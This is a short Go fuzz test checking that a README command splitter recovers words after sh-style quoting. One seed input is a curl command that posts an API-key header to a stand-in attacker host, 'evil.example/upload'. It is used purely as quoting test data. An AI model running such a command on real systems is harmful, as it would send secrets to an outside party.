package main

import (
	"reflect"
	"strings"
	"testing"
)

// FuzzReadmeShellWords checks the README test's command splitter against
// quoting as sh does it: any words (NUL-separated in the input), each written
// plain when it can be, else in single quotes with every ' as "'", split back
// to the same words.
func FuzzReadmeShellWords(f *testing.F) {
	f.Add("curl\x00-s\x00-H\x00X-Api-Key: a b\x00http://evil.example/upload")
	f.Add("\x00it's\x00say \"hi\"\x00\t")
	f.Fuzz(func(t *testing.T, joined string) {
		words := strings.Split(joined, "\x00")
		quoted := make([]string, len(words))
		for i, w := range words {
			if w != "" && !strings.ContainsAny(w, " \t'\"") {
				quoted[i] = w
			} else {
				quoted[i] = "'" + strings.ReplaceAll(w, "'", `'"'"'`) + "'"
			}
		}
		line := strings.Join(quoted, " \t ")
		if got := shellWords(t, line); !reflect.DeepEqual(got, words) {
			t.Fatalf("shellWords(%q) = %q, want %q", line, got, words)
		}
	})
}
